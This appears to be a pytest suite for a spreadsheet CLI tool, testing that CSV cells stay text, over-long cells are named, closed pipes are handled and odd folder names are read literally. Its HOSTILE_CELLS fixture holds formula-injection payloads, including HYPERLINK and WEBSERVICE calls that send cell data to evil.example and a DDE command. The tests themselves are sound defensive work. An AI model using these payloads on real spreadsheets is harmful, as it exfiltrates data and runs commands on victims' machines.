"""Trust boundaries, second round (issue 26): copies written from user cells stay text, over-long
cells are kept or named, a closed pipe is quiet, rollup reads the folder it is given — each through
the CLI, on real files."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

DAY = "2026-11-22"

# cells a spreadsheet would run: links that call out, a web request with the sheet's data, DDE, sums
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    '=WEBSERVICE("http://evil.example/?d="&A1)',
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
]


def test_the_annotated_copy_of_a_csv_holds_every_cell_as_text(cli, tmp_path):
    rows = ["客户编号,客户名称,联系电话,客户等级,负责人,建档日期,备注"]
    for i, bad in enumerate(HOSTILE_CELLS, start=1):
        quoted = '"' + bad.replace('"', '""') + '"'
        rows.append(f"K{i},{quoted},1380013800{i},B,张伟,2026-03-05,{quoted}")
    src = tmp_path / "客户名录簿.csv"
    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "标注.xlsx"
    cli("validate", src, "--as-of", DAY, "--annotate", out, ok=(0, 1))
    wb = openpyxl.load_workbook(out)
    formulas = [
        (ws.title, c.coordinate, c.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    ws = wb["客户名录簿"]
    assert [
        ws.cell(row=r, column=2).value for r in range(2, 2 + len(HOSTILE_CELLS))
    ] == HOSTILE_CELLS
    assert [
        ws.cell(row=r, column=7).value for r in range(2, 2 + len(HOSTILE_CELLS))
    ] == HOSTILE_CELLS
    # Excel's own "this is text" mark, so editing such a cell does not turn it into a formula
    assert all(ws.cell(row=r, column=2).quotePrefix for r in range(2, 2 + len(HOSTILE_CELLS)))
    assert not ws["A2"].quotePrefix


# --- over-long cells: Excel holds 32,767 characters in a cell ------------------------------------------

LONG = 40_000


def _long_csv(tmp_path: Path) -> Path:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    rows = [
        "客户编号,客户名称,联系电话,客户等级,负责人,建档日期,备注",
        "K1,华兴建材,13800138002,B,张伟,2026-03-05," + "长" * (LONG - 1) + "尾",
        "K2," + "名" * LONG + ",13800138006,C,张伟,2026-03-05,短",
    ]
    src = inbox / "客户名录簿.csv"
    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return src


def test_a_cell_longer_than_excel_holds_is_kept_whole_or_named(cli, tmp_path):
    import pyarrow.parquet as pq

    src = _long_csv(tmp_path)
    # merge: the master cannot hold it; the warning names the master's file, sheet and cell
    master = tmp_path / "总表.xlsx"
    _code, out = cli.json("merge", src.parent, "-o", master, ok=(0,))
    said = [w for w in out["warnings"] if str(LONG) in w]
    assert any(w.startswith("总表.xlsx › 客户名录簿 › K2") for w in said), out["warnings"]
    assert any(w.startswith("总表.xlsx › 客户名录簿 › B3") for w in said), out["warnings"]
    wb = openpyxl.load_workbook(master, read_only=True)
    assert len(wb["客户名录簿"]["K2"].value) == 32_767
    # the English run says it in English, on the terminal too
    plain = cli("merge", src.parent, "-o", tmp_path / "master.xlsx", "--lang", "en", ok=(0,))
    assert "master.xlsx › Customers › K2: this text has 40000 characters" in plain.output
    # Parquet and JSON hold it whole
    cli("export", src, "-o", tmp_path / "pq", "--office", "x", "--as-of", DAY, ok=(0,))
    (part,) = (tmp_path / "pq" / "customers").rglob("*.parquet")
    notes = pq.read_table(part).column("note").to_pylist()
    assert sorted(len(n) for n in notes) == [1, LONG] and max(notes, key=len).endswith("尾")
    # the annotated copy (openpyxl cuts too): named in the answer
    _code, out = cli.json("validate", src, "--as-of", DAY, "--annotate", tmp_path / "a.xlsx")
    assert any(
        n.startswith("a.xlsx › 客户名录簿 › G2") and str(LONG) in n for n in out["annotate_notes"]
    ), out["annotate_notes"]
    # any other writer: the cut is said on stderr (a due list names the customer)
    due = cli("due", src, "--as-of", DAY, "-o", tmp_path / "due.xlsx", ok=(0, 1))
    assert "due.xlsx › " in due.stderr and f"{LONG} 个字符" in due.stderr


# --- a closed pipe: `merge … --json | head -1`, `due … | head -1` --------------------------------------


def _run_into_closed_pipe(*args: object) -> subprocess.CompletedProcess:
    """The command with stdout a pipe whose reader has already gone (what `| head -1` leaves)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        return subprocess.run(
            [sys.executable, "-m", "followup_xl", *map(str, args)],
            stdout=write_end,
            stderr=subprocess.PIPE,
            text=True,
            timeout=300,
            check=False,
        )
    finally:
        os.close(write_end)


@pytest.mark.slow
def test_a_closed_pipe_ends_the_output_not_the_command(cli, office_dir, tmp_path):
    master = tmp_path / "总表.xlsx"
    closed = _run_into_closed_pipe("merge", office_dir, "-o", master, "--json")
    assert "Traceback" not in closed.stderr and "BrokenPipe" not in closed.stderr, closed.stderr
    would = cli("merge", office_dir, "-o", tmp_path / "again.xlsx", "--json")
    assert closed.returncode == would.exit_code == 0
    assert master.is_file()  # the work was done: only the printing stopped
    for args in (("due", master, "--as-of", DAY), ("validate", master, "--as-of", DAY)):
        closed = _run_into_closed_pipe(*args)
        assert closed.stderr == "" or "Traceback" not in closed.stderr, closed.stderr
        assert closed.returncode == cli(*args).exit_code, (args, closed.stderr)
    # an error still says so on stderr, with its own exit code
    missing = _run_into_closed_pipe("due", tmp_path / "nope.xlsx", "--json")
    assert missing.returncode == 2 and "nope.xlsx" in missing.stderr


# --- rollup reads the folder it is given, literally ------------------------------------------------------


@pytest.fixture(scope="module")
def exported(tmp_path_factory, master):
    """The example office's master exported as office 甲 (with the 2026-10 snapshot)."""
    from click.testing import CliRunner

    from followup_xl.cli import main

    out = tmp_path_factory.mktemp("export") / "x"
    args = ["export", str(master), "-o", str(out), "--office", "甲", "--as-of", DAY]
    r = CliRunner().invoke(main, [*args, "--month", "2026-10"])
    assert r.exit_code == 0, r.output
    return out


def _copy_office(root: Path, name: str, to: str) -> None:
    """Office ``name``'s partitions of every table copied as office ``to`` (a folder name)."""
    for table in ("calls", "obligations", "offices", "customers", "events", "staff"):
        src = root / table / f"office={name}"
        if src.is_dir():
            shutil.copytree(src, root / table / f"office={to}")


def _rollup(cli, folder: Path, ok=(0,)):
    return cli.json("rollup", folder, "--month", "2026-10", ok=ok)


def test_rollup_reads_a_folder_named_like_a_glob_literally(cli, exported, tmp_path):
    own = _rollup(cli, exported)[1]["offices"]
    for name, sibling in (("区域[x]", "区域x"), ("g*", "gz"), ("g?", "ga")):
        shutil.copytree(exported, tmp_path / name)
        shutil.copytree(exported, tmp_path / sibling)
        _copy_office(tmp_path / sibling, "甲", "乙")  # another region's office
        _code, out = _rollup(cli, tmp_path / name)
        assert [o["office"] for o in out["offices"]] == ["甲"], name
        assert out["offices"] == own


def test_rollup_names_a_junk_parquet_file(cli, exported, tmp_path):
    root = tmp_path / "区域"
    shutil.copytree(exported, root)
    junk = root / "calls" / "office=甲" / "year=2026" / "junk.parquet"
    junk.write_bytes(b"this is not parquet" * 100)
    result = cli("rollup", root, "--month", "2026-10", ok=(2,))
    assert "junk.parquet" in result.output and "Traceback" not in result.output
    junk.write_bytes(_parquet_bytes({"x": [1, 2]}))  # Parquet, but not a table export writes
    result = cli("rollup", root, "--month", "2026-10", ok=(2,))
    assert "junk.parquet" in result.output


def _parquet_bytes(columns: dict) -> bytes:
    import io

    import pyarrow as pa
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    pq.write_table(pa.table(columns), buf)
    return buf.getvalue()


def test_rollup_reads_odd_office_folders_or_names_them(cli, exported, tmp_path):
    root = tmp_path / "区域"
    shutil.copytree(exported, root)
    (figures,) = _rollup(cli, root)[1]["offices"]
    _copy_office(root, "甲", "O'Brien")  # a quote: a name export writes, read like any other
    _copy_office(root, "甲", "=1+2")  # office==1+2: export refuses '=' in a name
    _copy_office(root, "甲", "a\\b")  # a backslash: refused too
    odd_year = root / "calls" / "office=甲" / "year=abc"
    shutil.copytree(root / "calls" / "office=甲" / "year=2026", odd_year)
    (root / "calls" / "junk").mkdir()
    _code, out = _rollup(cli, root)
    by_name = {o["office"]: o for o in out["offices"]}
    assert sorted(by_name) == ["O'Brien", "甲"]
    strip = {k: v for k, v in figures.items() if k not in ("office", "rank")}
    assert {k: v for k, v in by_name["O'Brien"].items() if k not in ("office", "rank")} == strip
    said = "\n".join(out["warnings"])
    for folder in ("office==1+2", "office=a\\b", "year=abc", os.sep + "junk"):
        assert folder in said, folder
    # on the terminal too
    plain = cli("rollup", root, "--month", "2026-10", "--lang", "en", ok=(0,))
    assert "office==1+2" in plain.output and "skipped" in plain.output


def test_rollup_masks_a_phone_in_an_office_name(cli, exported, tmp_path):
    root = tmp_path / "区域"
    shutil.copytree(exported, root)
    _copy_office(root, "甲", "张三13800001234")
    _code, out = _rollup(cli, root)
    assert "13800001234" not in json.dumps(out, ensure_ascii=False)
    assert sorted(o["office"] for o in out["offices"]) == ["张三138****1234", "甲"]


MARKUP_CELLS = ["<r>abc</r>", "<r><t>悄悄换掉</t></r>", "<r><rPr><b/></rPr><t>x</t></r>"]


def test_a_cell_that_looks_like_rich_text_markup_stays_the_text_typed(cli, office_dir, tmp_path):
    """XlsxWriter's constant_memory mode (the master, its history, the due list) writes a text
    "<r>…</r>" into the sheet's XML as rich-text markup: "<r>abc</r>" was lost and "<r><t>x</t></r>"
    became "x" (and the shared-strings table of every other book did the same). The master and a
    split book keep what staff typed, character for
    character, and LibreOffice-free readers (openpyxl, calamine) read it back."""
    from python_calamine import CalamineWorkbook

    inbox = tmp_path / "收件箱"
    shutil.copytree(office_dir, inbox)
    book = next(inbox.glob("张伟_*.xlsx"))
    wb = openpyxl.load_workbook(book)
    ws = wb["回访记录表"]
    content = next(c.column for c in ws[1] if c.value == "回访内容")
    for i, text in enumerate(MARKUP_CELLS):
        ws.cell(2 + i, content).value = text
    wb.save(book)
    master = tmp_path / "总表.xlsx"
    cli("merge", inbox, "-o", master, "--as-of", DAY, ok=(0,))
    opened = openpyxl.load_workbook(master, read_only=True)
    kept = {c for row in opened["回访记录表"].iter_rows(values_only=True) for c in row}
    assert set(MARKUP_CELLS) <= kept
    rows = CalamineWorkbook.from_path(str(master)).get_sheet_by_name("回访记录表").to_python()
    assert set(MARKUP_CELLS) <= {c for row in rows for c in row}
    # and back out to the staff: the split book holds the same text
    cli("split", master, "-o", tmp_path / "分发", "--as-of", DAY, ok=(0,))
    sent = openpyxl.load_workbook(next((tmp_path / "分发").glob("张伟_*")), read_only=True)
    assert set(MARKUP_CELLS) <= {
        c for row in sent["回访记录表"].iter_rows(values_only=True) for c in row
    }
